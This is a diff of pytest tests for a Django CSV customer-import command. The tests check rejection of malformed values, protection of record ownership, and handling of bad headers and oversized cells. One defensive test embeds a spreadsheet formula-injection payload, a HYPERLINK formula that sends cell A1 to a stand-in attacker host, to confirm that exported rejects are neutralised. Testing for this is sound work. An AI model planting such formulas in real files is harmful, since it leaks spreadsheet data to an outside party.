@@ -1,5 +1,6 @@
 """`manage.py import_customers FILE.csv`: match by reference, e-mail or phone; create; reject with reasons."""
 
+import csv
 from decimal import Decimal
 from io import StringIO
 
@@ -74,7 +75,7 @@ def test_bad_and_ambiguous_rows_are_rejected_with_reasons_and_change_nothing(tmp
         "line 3: phone '12' is not a phone number",
         "line 4: tier 'platinum' is not one of",
         "line 5: lifetime_value cannot be negative",
-        "line 6: lifetime_value 'lots' is not a number",
+        "line 6: lifetime_value 'lots' is not an amount like 1234.50",
         "line 7: no external_ref, email or phone",
         "line 8: email 'twin@example.com' belongs to several customers",
         "line 9: the row matches different customers (by external_ref #",
@@ -153,3 +154,65 @@ def test_files_that_cannot_be_imported_are_refused_before_anything_is_stored(tmp
 def test_a_missing_file_is_named(tmp_path):
     with pytest.raises(CommandError, match="No such file"):
         call_command("import_customers", str(tmp_path / "nope.csv"))
+
+
+BAD_VALUES = [
+    ("lifetime_value", "12,50", "is not an amount like 1234.50"),  # a decimal comma is not read as 1250
+    ("lifetime_value", "1.234,56", "is not an amount"),
+    ("lifetime_value", "1e999999999999999999", "is not an amount"),
+    ("lifetime_value", "NaN", "is not an amount"),
+    ("record_occurred_at", "0001-01-01T00:00:00+01:00", "outside 1900 to 2100"),
+    ("record_occurred_at", "yesterday", "is not a date"),
+    ("name", "Ann\x00Lee", "NUL character"),
+    ("email", "a" * 250 + "@example.com", "longer than 254"),
+    ("tags", ";".join(f"t{n}" for n in range(31)), "more than 30"),
+]
+
+
+@pytest.mark.parametrize(("column", "value", "reason"), BAD_VALUES, ids=[f"{c}-{r}" for c, _, r in BAD_VALUES])
+def test_each_bad_value_rejects_its_row_only(tmp_path, column, value, reason):
+    good = {"email": "fine@example.com", "record_kind": "order", "record_source": "shop", "record_title": "X"}
+    good |= {"record_occurred_at": "2026-01-01", "name": "", "lifetime_value": "", "tags": ""}
+    bad = {**good, "email": "bad@example.com", column: value}
+    text = StringIO()
+    writer = csv.DictWriter(text, fieldnames=list(good))
+    writer.writeheader()
+    writer.writerows([bad, good])
+
+    output = _import(tmp_path, text.getvalue())
+
+    assert "created 1, rejected 1 rows" in output and f"line 2: {column}" in output and reason in output
+    assert list(Customer.objects.values_list("email", flat=True)) == ["fine@example.com"]
+
+
+def test_a_record_is_not_handed_from_one_customer_to_another(tmp_path):
+    text = "external_ref,record_kind,record_source,record_ref,record_title,record_occurred_at\n"
+    output = _import(tmp_path, text + "A,order,shop,O1,First,2026-01-01\nB,order,shop,O1,Second,2026-01-02\n")
+    assert "line 3: record_ref 'O1' belongs to a customer created earlier in this file" in output
+    output = _import(tmp_path, text + "B,order,shop,O1,Again,2026-01-02\n")
+    owner = Customer.objects.get(external_ref="A")
+    assert f"record_ref 'O1' belongs to #{owner.pk}" in output
+    assert CustomerRecord.objects.get().customer == owner and CustomerRecord.objects.get().title == "First"
+
+
+def test_the_rejects_file_is_safe_to_open_in_a_spreadsheet_and_never_the_input(tmp_path):
+    path = tmp_path / "in.csv"
+    path.write_text('email,name\nbad,"=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n')
+    with pytest.raises(CommandError, match="another file"):
+        call_command("import_customers", str(path), "--rejects", str(path), stdout=StringIO(), stderr=StringIO())
+    assert path.read_text().startswith("email,name")
+
+    call_command("import_customers", str(path), "--rejects", str(tmp_path / "out.csv"), stdout=StringIO())
+    rejected = (tmp_path / "out.csv").read_text().splitlines()[1]
+    assert "\"'=HYPERLINK(" in rejected and ',"=HYPERLINK' not in rejected
+
+
+def test_a_header_that_repeats_a_column_or_a_giant_cell_is_refused_whole(tmp_path):
+    path = tmp_path / "in.csv"
+    path.write_text("email,Email\na@example.com,\n")
+    with pytest.raises(CommandError, match="more than once: email"):
+        call_command("import_customers", str(path), stdout=StringIO(), stderr=StringIO())
+    path.write_text("email,name\na@example.com,ok\nb@example.com," + "x" * 200_000 + "\n")
+    with pytest.raises(CommandError, match="row after line 2 cannot be read as CSV"):
+        call_command("import_customers", str(path), stdout=StringIO(), stderr=StringIO())
+    assert not Customer.objects.exists()
